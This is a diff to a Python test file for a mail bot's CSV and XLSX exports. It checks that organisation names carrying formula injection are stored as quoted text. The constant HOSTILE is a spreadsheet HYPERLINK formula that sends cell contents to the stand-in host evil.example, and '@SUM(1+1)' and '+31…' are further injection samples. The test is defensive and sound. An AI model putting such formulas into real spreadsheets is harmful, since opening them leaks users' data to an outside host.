@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import csv
 import io
+import subprocess
+import sys
 import zipfile
 from pathlib import Path
 from typing import Any
@@ -23,7 +25,7 @@ from mailbot.reports import files, xlsx
 from mailbot.reports.cells import Column, Table
 from mailbot.submissions import store
 from tests.mails import simple_mail
-from tests.stories import FIGURES
+from tests.stories import FIGURES, gegevens_csv, gegevens_xlsx
 
 HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Utrecht")'
 runner = CliRunner()
@@ -87,12 +89,12 @@ def test_export_csv_and_xlsx_keep_a_hostile_name_as_text(hostile_db: str, tmp_pa
     [row] = list(csv.DictReader(io.StringIO(result.output)))
     assert row["organisation"] == f"'{HOSTILE}"
     assert (row["code"], row["region"]) == ("'@SUM(1+1)", "'+31 30 2860000")
-    assert row["1"] == str(FIGURES["1"])
+    assert row["gemeente_1"] == str(FIGURES["1"])
 
     out = tmp_path / "export.xlsx"
     runner.invoke(app, ["export", "--wide", "--format", "xlsx", "--out", str(out)],
                   catch_exceptions=False)
-    sheet = openpyxl.load_workbook(out)["export"]
+    sheet = openpyxl.load_workbook(out)["gemeente"]
     [cells] = sheet.iter_rows(min_row=2, max_row=2)
     assert [c.value for c in cells[1:4]] == [HOSTILE, "@SUM(1+1)", "+31 30 2860000"]
     assert all(c.data_type == "s" and c.quotePrefix for c in cells[1:4])
@@ -111,7 +113,23 @@ def test_gegevens_attachment_keeps_a_hostile_name_as_text(
     run_pass(bot)
 
     [reply] = smtp_sink.wait_for(1)
-    [attachment] = list(reply.message.iter_attachments())
-    rows = list(csv.DictReader(io.StringIO(attachment.get_content())))
-    assert {row["organisation"] for row in rows} == {f"'{HOSTILE}"}
-    assert {row["value"] for row in rows} == {str(value) for value in FIGURES.values()}
+    rows = gegevens_csv(reply.message)
+    assert {row["Organisatie"] for row in rows} == {f"'{HOSTILE}"}
+    assert {row["Aantal"] for row in rows} == {str(value) for value in FIGURES.values()}
+    book = gegevens_xlsx(reply.message)
+    assert {row["Organisatie"] for row in book} == {HOSTILE}
+    [part] = [p for p in reply.message.iter_attachments() if p.get_filename().endswith(".xlsx")]
+    sheet = openpyxl.load_workbook(io.BytesIO(part.get_payload(decode=True)))["gegevens"]
+    name = sheet["B2"]
+    assert name.data_type == "s" and name.quotePrefix and sheet["F2"].data_type == "n"
+
+
+def test_the_daemon_writes_the_gegevens_workbook_without_openpyxl() -> None:
+    # openpyxl and numpy would stay in the daemon's memory (about 20 MB) after one GEGEVENS.
+    script = (
+        "import sys\n"
+        "from mailbot.handlers.gegevens import files\n"
+        "files([('2026-H1', 'Utrecht', 'gemeente', '1', 'Aantal', 12, 1, 'x', 1)])\n"
+        "assert 'openpyxl' not in sys.modules and 'numpy' not in sys.modules\n"
+    )
+    subprocess.run([sys.executable, "-c", script], check=True, cwd=Path(__file__).parent.parent)
